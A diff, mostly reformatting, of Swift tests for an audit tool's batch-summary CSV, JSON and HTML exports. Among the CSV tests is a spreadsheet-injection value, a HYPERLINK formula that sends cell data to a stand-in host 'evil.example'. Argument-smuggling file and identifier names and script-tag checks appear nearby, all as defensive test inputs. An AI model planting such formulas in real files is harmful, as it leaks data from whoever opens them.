@@ -1,8 +1,9 @@
-@testable import Audit
-@testable import AuditBatch
+import FairlabelXML
 import Foundation
 import Testing
-import FairlabelXML
+
+@testable import Audit
+@testable import AuditBatch
 
 // MARK: - CSV
 
@@ -11,11 +12,14 @@ struct BatchSummaryCSVTests {
     @Test("The header names every column and every row has as many fields")
     func headerAndColumns() throws {
         let rows = BatchSample.mixed
-        let records = try CSVRecords.parse(BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
+        let records = try CSVRecords.parse(
+            BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
         #expect(
             records.first == [
-                "file", "organisation", "identifiers", "country", "sector", "decision", "score", "knockouts", "findings_knockout", "findings_major",
-                "findings_minor", "findings_advisory", "findings_gate", "findings_missing_data", "failed_criteria", "problem", "submission_sha256", "scheme",
+                "file", "organisation", "identifiers", "country", "sector", "decision", "score", "knockouts", "findings_knockout",
+                "findings_major",
+                "findings_minor", "findings_advisory", "findings_gate", "findings_missing_data", "failed_criteria", "problem",
+                "submission_sha256", "scheme",
                 "scheme_sha256", "packs_sha256", "tool_version", "audit_date",
             ])
         #expect(records.count == rows.count + 1)
@@ -38,19 +42,26 @@ struct BatchSummaryCSVTests {
         #expect(records.map { $0[1] } == ["organisation", #"Smith, "Jr" & Co"#, "Line one\nLine two\r\nLine three", "Plain Ltd"])
     }
 
-    @Test("A cell a spreadsheet would run as a formula gets a leading apostrophe", arguments: ["=1+1", "+1", "-2", "@SUM(A1)", "\tTab", "\rReturn"])
+    @Test(
+        "A cell a spreadsheet would run as a formula gets a leading apostrophe",
+        arguments: ["=1+1", "+1", "-2", "@SUM(A1)", "\tTab", "\rReturn"])
     func formulaGuard(value: String) {
         #expect(BatchSummaryCSV.guardingFormula(value) == "'" + value)
     }
 
-    @Test("Text that only contains formula characters later is left alone", arguments: ["Acme 1-2 Ltd", "A=B", "ACME+", "mail@example.org", "", "'quoted"])
+    @Test(
+        "Text that only contains formula characters later is left alone",
+        arguments: ["Acme 1-2 Ltd", "A=B", "ACME+", "mail@example.org", "", "'quoted"])
     func noGuard(value: String) {
         #expect(BatchSummaryCSV.guardingFormula(value) == value)
     }
 
     @Test("A hostile organisation name cannot become a formula, and identifiers and files are guarded too")
     func hostileCells() throws {
-        let rows = [BatchSample.row(file: "-rf.xml", organisation: #"=HYPERLINK("http://evil.example/?q="&A1,"click")"#, identifiers: ["@cmd", "LEI:1"])]
+        let rows = [
+            BatchSample.row(
+                file: "-rf.xml", organisation: #"=HYPERLINK("http://evil.example/?q="&A1,"click")"#, identifiers: ["@cmd", "LEI:1"])
+        ]
         let csv = BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
         #expect(csv.contains(#"'-rf.xml,"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",'@cmd; LEI:1,"#))
         let record = try CSVRecords.parse(csv)[1]
@@ -63,7 +74,8 @@ struct BatchSummaryCSVTests {
     @Test("A row gives its decision, score with one decimal, knock-outs, finding counts by severity and digests")
     func rowFields() throws {
         let rows = [BatchSample.knockedOut, BatchSample.broken]
-        let records = try CSVRecords.parse(BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
+        let records = try CSVRecords.parse(
+            BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
         let header = records[0]
         func field(_ record: [String], _ name: String) -> String { record[header.firstIndex(of: name)!] }
         let withheld = records[1]
@@ -92,18 +104,23 @@ struct BatchSummaryCSVTests {
         let rows = BatchSample.mixed
         let first = BatchSummaryCSV.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
         let copy = try JSONDecoder().decode([BatchSummaryRow].self, from: JSONEncoder().encode(rows))
-        #expect(Array(first.utf8) == Array(BatchSummaryCSV.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
+        #expect(
+            Array(first.utf8)
+                == Array(BatchSummaryCSV.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
         #expect(first.hasSuffix("\n"))
         #expect(!first.contains("\r\n"))
         let files = try CSVRecords.parse(first).dropFirst().map { $0[0] }
         #expect(files == rows.map(\.file))
-        let reversed = try CSVRecords.parse(BatchSummaryCSV.document(for: rows.reversed(), scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
+        let reversed = try CSVRecords.parse(
+            BatchSummaryCSV.document(for: rows.reversed(), scheme: BatchSample.scheme, auditDate: BatchSample.auditDate))
         #expect(reversed.dropFirst().map { $0[0] } == rows.reversed().map(\.file))
     }
 
     @Test("An empty batch gives the header alone")
     func empty() {
-        #expect(BatchSummaryCSV.document(for: [], scheme: BatchSample.scheme, auditDate: BatchSample.auditDate) == BatchSummaryCSV.columns.joined(separator: ",") + "\n")
+        #expect(
+            BatchSummaryCSV.document(for: [], scheme: BatchSample.scheme, auditDate: BatchSample.auditDate) == BatchSummaryCSV.columns
+                .joined(separator: ",") + "\n")
     }
 }
 
@@ -128,11 +145,15 @@ struct BatchSummaryJSONTests {
 
     @Test("Every decision is counted, zeros included, and keys are sorted")
     func zeros() throws {
-        let json = BatchSummaryJSON.document(for: [BatchSample.row(file: "only.xml", decision: .granted, score: 91)], scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
+        let json = BatchSummaryJSON.document(
+            for: [BatchSample.row(file: "only.xml", decision: .granted, score: 91)], scheme: BatchSample.scheme,
+            auditDate: BatchSample.auditDate)
         let object = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
         #expect(object["decisions"] as? [String: Int] == ["granted": 1, "conditional": 0, "withheld": 0, "not-auditable": 0])
         #expect(Array(object.keys).sorted() == ["auditDate", "decisions", "rows", "scheme", "submissions"])
-        let order = ["\"auditDate\"", "\"decisions\"", "\"rows\"", "\"scheme\"", "\"submissions\""].compactMap { json.range(of: $0)?.lowerBound }
+        let order = ["\"auditDate\"", "\"decisions\"", "\"rows\"", "\"scheme\"", "\"submissions\""].compactMap {
+            json.range(of: $0)?.lowerBound
+        }
         #expect(order == order.sorted() && order.count == 5)
         #expect(json.contains("\"file\" : \"only.xml\""))
     }
@@ -142,7 +163,9 @@ struct BatchSummaryJSONTests {
         let rows = BatchSample.mixed
         let first = BatchSummaryJSON.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
         let copy = try JSONDecoder().decode([BatchSummaryRow].self, from: JSONEncoder().encode(rows))
-        #expect(Array(first.utf8) == Array(BatchSummaryJSON.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
+        #expect(
+            Array(first.utf8)
+                == Array(BatchSummaryJSON.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
         #expect(first.contains("submissions/batch-0001.xml"))
         #expect(!first.contains("\\/"))
         #expect(first.hasSuffix("}\n"))
@@ -171,7 +194,9 @@ struct BatchSummaryHTMLTests {
         let page = try Self.parse(BatchSample.mixed)
         #expect(try Self.string("/h:html/@lang", page) == "en")
         #expect(try Self.string("/h:html/h:head/h:meta[1]/@charset", page) == "utf-8")
-        #expect(try Self.string("/h:html/h:head/h:title", page) == "Batch summary: \(BatchSample.mixed.count) submissions · fairlabel-fl@2026.1 · 2026-06-30")
+        #expect(
+            try Self.string("/h:html/h:head/h:title", page)
+                == "Batch summary: \(BatchSample.mixed.count) submissions · fairlabel-fl@2026.1 · 2026-06-30")
         #expect(try Self.string("count(//*[@id][@id = preceding::*/@id])", page) == "0")
         #expect(page.html.hasSuffix("</html>\n"))
     }
@@ -186,8 +211,11 @@ struct BatchSummaryHTMLTests {
 
     @Test("The page loads nothing from elsewhere and has no script")
     func selfContained() {
-        let html = BatchSummaryHTML.document(for: BatchSample.mixed + [BatchSample.hostile], scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
-        for forbidden in ["<script", "<link", "<img", "<iframe", "src=", "url(", "@import", "href=\"http", "href=\"//", "<object", "<embed"] {
+        let html = BatchSummaryHTML.document(
+            for: BatchSample.mixed + [BatchSample.hostile], scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
+        for forbidden in [
+            "<script", "<link", "<img", "<iframe", "src=", "url(", "@import", "href=\"http", "href=\"//", "<object", "<embed",
+        ] {
             #expect(!html.contains(forbidden), "\(forbidden)")
         }
         #expect(ReportFixture.occurrences(of: "<style>", in: html) == 1)
@@ -198,11 +226,17 @@ struct BatchSummaryHTMLTests {
     func header() throws {
         let rows = BatchSample.mixed
         let page = try Self.parse(rows)
-        #expect(try Self.string("normalize-space(//h:p[contains(@class, 'count-note')])", page) == "\(rows.count) submissions audited under fairlabel-fl@2026.1, audit date 2026-06-30")
+        #expect(
+            try Self.string("normalize-space(//h:p[contains(@class, 'count-note')])", page)
+                == "\(rows.count) submissions audited under fairlabel-fl@2026.1, audit date 2026-06-30")
         for decision in Decision.allCases {
             let count = rows.filter { $0.decision == decision }.count
-            #expect(try Self.string("//h:div[contains(@class, 'decision-\(decision.rawValue)')]/h:span[@class='figure-number']", page) == String(count))
-            #expect(try Self.string("//h:div[contains(@class, 'decision-\(decision.rawValue)')]/h:span[@class='figure-label']", page) == decision.label)
+            #expect(
+                try Self.string("//h:div[contains(@class, 'decision-\(decision.rawValue)')]/h:span[@class='figure-number']", page)
+                    == String(count))
+            #expect(
+                try Self.string("//h:div[contains(@class, 'decision-\(decision.rawValue)')]/h:span[@class='figure-label']", page)
+                    == decision.label)
         }
     }
 
@@ -212,7 +246,8 @@ struct BatchSummaryHTMLTests {
         #expect(try Self.string("count(//s:svg)", page) == "4")
         for id in ["sector", "country", "findings", "scores"] {
             #expect(try Self.string("count(//h:figure/s:svg[contains(@class, '\(id)-chart')][@role='img'])", page) == "1", "\(id)")
-            #expect(try Self.string("//s:svg[contains(@class, '\(id)-chart')]/@aria-labelledby", page) == "\(id)-chart-title \(id)-chart-desc")
+            #expect(
+                try Self.string("//s:svg[contains(@class, '\(id)-chart')]/@aria-labelledby", page) == "\(id)-chart-title \(id)-chart-desc")
             #expect(try !Self.string("//s:svg[contains(@class, '\(id)-chart')]/s:title[@id='\(id)-chart-title']", page).isEmpty)
             #expect(try !Self.string("//s:svg[contains(@class, '\(id)-chart')]/s:desc[@id='\(id)-chart-desc']", page).isEmpty)
         }
@@ -225,26 +260,38 @@ struct BatchSummaryHTMLTests {
         let sectors = Dictionary(grouping: rows, by: { $0.sector ?? "sector not given" })
         #expect(try Self.string("count(//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'])", page) == String(sectors.count))
         let largest = sectors.max { $0.value.count != $1.value.count ? $0.value.count < $1.value.count : $0.key > $1.key }!
-        #expect(try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='label']", page) == largest.key)
-        #expect(try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='value']", page) == String(largest.value.count))
+        #expect(
+            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='label']", page) == largest.key)
+        #expect(
+            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='value']", page)
+                == String(largest.value.count))
         // Every submission is in exactly one bar of each chart.
         for id in ["sector", "country"] {
             let totals = try Self.string("sum(//s:svg[contains(@class, '\(id)-chart')]/s:g[@class='row']/s:text[@class='value'])", page)
             #expect(totals == String(rows.count), "\(id)")
         }
         // Every segment has a decision's colour class.
-        #expect(try Self.string("count(//s:svg[contains(@class, 'country-chart')]/s:g[@class='row']/s:rect[not(starts-with(@class, 'seg seg-'))])", page) == "0")
+        #expect(
+            try Self.string(
+                "count(//s:svg[contains(@class, 'country-chart')]/s:g[@class='row']/s:rect[not(starts-with(@class, 'seg seg-'))])", page)
+                == "0")
     }
 
     @Test("Beyond fifteen sectors the smaller ones share one last bar")
     func collectsSmallCategories() throws {
-        let rows = (0..<40).map { index in BatchSample.row(file: "s\(index).xml", sector: "NACE \(10 + index % 20).00", decision: index % 3 == 0 ? .granted : .withheld, score: 70) }
+        let rows = (0..<40).map { index in
+            BatchSample.row(
+                file: "s\(index).xml", sector: "NACE \(10 + index % 20).00", decision: index % 3 == 0 ? .granted : .withheld, score: 70)
+        }
         let page = try Self.parse(rows)
         #expect(try Self.string("count(//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'])", page) == "16")
-        #expect(try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][16]/s:text[@class='label']", page) == "5 other sectors")
+        #expect(
+            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][16]/s:text[@class='label']", page)
+                == "5 other sectors")
         #expect(try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][16]/s:text[@class='value']", page) == "10")
         // Equal groups are ordered by name, so the same rows always give the same bars.
-        #expect(try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='label']", page) == "NACE 10.00")
+        #expect(
+            try Self.string("//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row'][1]/s:text[@class='label']", page) == "NACE 10.00")
     }
 
     @Test("The most frequent findings are the top fifteen failed criteria with their counts")
@@ -259,12 +306,16 @@ struct BatchSummaryHTMLTests {
         #expect(try Self.string("count(\(bars))", page) == "15")
         for (index, (id, count)) in expected.enumerated() {
             #expect(try Self.string("\(bars)[\(index + 1)]/s:text[@class='code']", page) == id)
-            #expect(try Self.string("\(bars)[\(index + 1)]/s:text[@class='value']/text()[1]", page).trimmingCharacters(in: .whitespaces) == String(count))
+            #expect(
+                try Self.string("\(bars)[\(index + 1)]/s:text[@class='value']/text()[1]", page).trimmingCharacters(in: .whitespaces)
+                    == String(count))
         }
         #expect(try Self.string("count(\(bars)/s:rect[@class='bar-finding'])", page) == "15")
     }
 
-    @Test("Scores fall into ten 10-point bins, 100 in the last, each bar with its count", arguments: [(0.0, 0), (9.9, 0), (10.0, 1), (59.9, 5), (60.0, 6), (99.9, 9), (100.0, 9)])
+    @Test(
+        "Scores fall into ten 10-point bins, 100 in the last, each bar with its count",
+        arguments: [(0.0, 0), (9.9, 0), (10.0, 1), (59.9, 5), (60.0, 6), (99.9, 9), (100.0, 9)])
     func bins(score: Double, bin: Int) {
         #expect(BatchSummaryCharts.ScoreHistogram.bin(of: score) == bin)
     }
@@ -301,8 +352,12 @@ struct BatchSummaryHTMLTests {
         #expect(!page.html.contains("<b>"))
         #expect(try Self.string("count(//h:script | //h:b | //s:script)", page) == "0")
         #expect(try Self.string("//h:table[@class='submissions']/h:tbody/h:tr[last()]/h:td[3]", page) == SampleAudit.hostileText)
-        #expect(try Self.string("//h:table[@class='submissions']/h:tbody/h:tr[last()]/h:td[2]", page) == "evil/" + SampleAudit.hostileText + ".xml")
-        #expect(try Self.string("count(//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row']/s:title[contains(., '<script>')])", page) == "1")
+        #expect(
+            try Self.string("//h:table[@class='submissions']/h:tbody/h:tr[last()]/h:td[2]", page) == "evil/" + SampleAudit.hostileText
+                + ".xml")
+        #expect(
+            try Self.string("count(//s:svg[contains(@class, 'sector-chart')]/s:g[@class='row']/s:title[contains(., '<script>')])", page)
+                == "1")
     }
 
     @Test("An empty batch gives a page with zeros and no charts")
@@ -319,7 +374,9 @@ struct BatchSummaryHTMLTests {
         let rows = BatchSample.corpus(count: 300)
         let first = BatchSummaryHTML.document(for: rows, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate)
         let copy = try JSONDecoder().decode([BatchSummaryRow].self, from: JSONEncoder().encode(rows))
-        #expect(Array(first.utf8) == Array(BatchSummaryHTML.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
+        #expect(
+            Array(first.utf8)
+                == Array(BatchSummaryHTML.document(for: copy, scheme: BatchSample.scheme, auditDate: BatchSample.auditDate).utf8))
         let formatter = DateFormatter()
         formatter.dateFormat = "yyyy-MM-dd"
         formatter.locale = Locale(identifier: "en_US_POSIX")
@@ -397,8 +454,10 @@ enum BatchSample {
     /// A row of an audit with these facts; `failed` lists the failed criteria with the severity
     /// of each finding (`nil` for missing data).
     static func row(
-        file: String, organisation: String? = "Acme Ltd", identifiers: [String] = [], country: String? = "GB", sector: String? = "NACE 14.19",
-        decision: Decision = .conditional, score: Double? = 72.5, knockouts: [String] = [], failed: [(String, Severity?)] = [], problem: String? = nil
+        file: String, organisation: String? = "Acme Ltd", identifiers: [String] = [], country: String? = "GB",
+        sector: String? = "NACE 14.19",
+        decision: Decision = .conditional, score: Double? = 72.5, knockouts: [String] = [], failed: [(String, Severity?)] = [],
+        problem: String? = nil
     ) -> BatchSummaryRow {
         var criteria: [String: [Finding]] = [:]
         var order: [String] = []
@@ -411,10 +470,12 @@ enum BatchSample {
             let findings = criteria[id] ?? []
             return SampleAudit.criterion(id, "Criterion \(id)", theme: "REC", findings.first?.severity ?? .major, .fail, findings: findings)
         }
-        let problems = problem.map { [Diagnostic(severity: .error, location: SourceLocation(file: file, line: 57, column: 9), message: $0)] } ?? []
+        let problems =
+            problem.map { [Diagnostic(severity: .error, location: SourceLocation(file: file, line: 57, column: 9), message: $0)] } ?? []
         let audit = Audit(
             submission: SubmissionSummary(
-                file: file, sha256: SampleAudit.digest(file), organisation: organisation, identifiers: identifiers, country: country, sector: sector,
+                file: file, sha256: SampleAudit.digest(file), organisation: organisation, identifiers: identifiers, country: country,
+                sector: sector,
                 period: nil),
             scheme: SampleAudit.scheme, packs: SampleAudit.packs, toolVersion: "0.1.0", auditDate: auditDate, decision: decision, steps: [],
             structuralProblems: problems, criteria: results, themes: [], score: score, knockouts: knockouts, correctiveActions: [],
@@ -443,14 +504,18 @@ enum BatchSample {
     /// Forty rows with every decision, several sectors and countries, and the two above.
     static let mixed: [BatchSummaryRow] = corpus(count: 38) + [knockedOut, broken]
 
-    static let countries = ["BD", "CN", "DE", "GB", "IN", "KH", "MY", "NL", "NO", "PK", "TR", "VN", "US", "MX", "BR", "TH", "ID", "ET", "LK", "PL", "RO", "MA"]
+    static let countries = [
+        "BD", "CN", "DE", "GB", "IN", "KH", "MY", "NL", "NO", "PK", "TR", "VN", "US", "MX", "BR", "TH", "ID", "ET", "LK", "PL", "RO", "MA",
+    ]
     static let sectors = [
         "NACE 14.19", "NACE 13.20", "NACE 26.11", "NACE 10.11", "NACE 01.13", "NACE 15.20", "NACE 22.29", "NACE 27.12", "NACE 46.41",
         "NACE 32.40", "NACE 08.99", "NACE 24.10", "NACE 29.32", "NACE 31.01", "NACE 16.23", "NACE 49.41", "NACE 52.10", "NACE 81.21",
     ]
     static let criteriaIDs = [
-        "FL-HOURS-01", "FL-FEES-02", "FL-DATA-04", "FL-GRIEV-02", "FL-HOURS-02", "FL-WAGE-01", "FL-DD-03", "FL-CONT-01", "FL-POL-04", "FL-FEES-03",
-        "FL-DD-01", "FL-REM-01", "FL-DATA-02", "FL-HOURS-03", "FL-GRIEV-01", "FL-CONT-02", "FL-DATA-01", "FL-POL-01", "FL-DOCS-01", "FL-FEES-01",
+        "FL-HOURS-01", "FL-FEES-02", "FL-DATA-04", "FL-GRIEV-02", "FL-HOURS-02", "FL-WAGE-01", "FL-DD-03", "FL-CONT-01", "FL-POL-04",
+        "FL-FEES-03",
+        "FL-DD-01", "FL-REM-01", "FL-DATA-02", "FL-HOURS-03", "FL-GRIEV-01", "FL-CONT-02", "FL-DATA-01", "FL-POL-01", "FL-DOCS-01",
+        "FL-FEES-01",
         "FL-MOVE-01", "FL-WAGE-02", "FL-DEBT-02", "FL-COER-01",
     ]
 
@@ -469,18 +534,25 @@ enum BatchSample {
             }
             switch roll {
             case 0..<8:
-                return row(file: file, organisation: nil, country: nil, sector: nil, decision: .notAuditable, score: nil, problem: "not well-formed at line \(index % 90 + 2)")
+                return row(
+                    file: file, organisation: nil, country: nil, sector: nil, decision: .notAuditable, score: nil,
+                    problem: "not well-formed at line \(index % 90 + 2)")
             case 8..<30:
                 let score = 80 + Double(generator.next() % 201) / 10
-                return row(file: file, organisation: organisation, country: country, sector: sector, decision: .granted, score: score, failed: Array(failures.prefix(1)))
+                return row(
+                    file: file, organisation: organisation, country: country, sector: sector, decision: .granted, score: score,
+                    failed: Array(failures.prefix(1)))
             case 30..<70:
                 let score = 60 + Double(generator.next() % 200) / 10
-                return row(file: file, organisation: organisation, country: country, sector: sector, decision: .conditional, score: score, failed: failures)
+                return row(
+                    file: file, organisation: organisation, country: country, sector: sector, decision: .conditional, score: score,
+                    failed: failures)
             default:
                 let score = 15 + Double(generator.next() % 700) / 10
                 let knockout = criteriaIDs[18 + Int(generator.next() % 6)]
                 return row(
-                    file: file, organisation: organisation, country: country, sector: sector, decision: .withheld, score: score, knockouts: [knockout],
+                    file: file, organisation: organisation, country: country, sector: sector, decision: .withheld, score: score,
+                    knockouts: [knockout],
                     failed: failures + [(knockout, .knockout)])
             }
         }
@@ -544,7 +616,9 @@ enum CSVRecords {
             }
             switch scalar {
             case "\"":
-                guard field.isEmpty, !wasQuoted else { throw Malformed(description: "quote inside an unquoted field after \(field.debugDescription)") }
+                guard field.isEmpty, !wasQuoted else {
+                    throw Malformed(description: "quote inside an unquoted field after \(field.debugDescription)")
+                }
                 quoted = true
                 wasQuoted = true
             case ",":
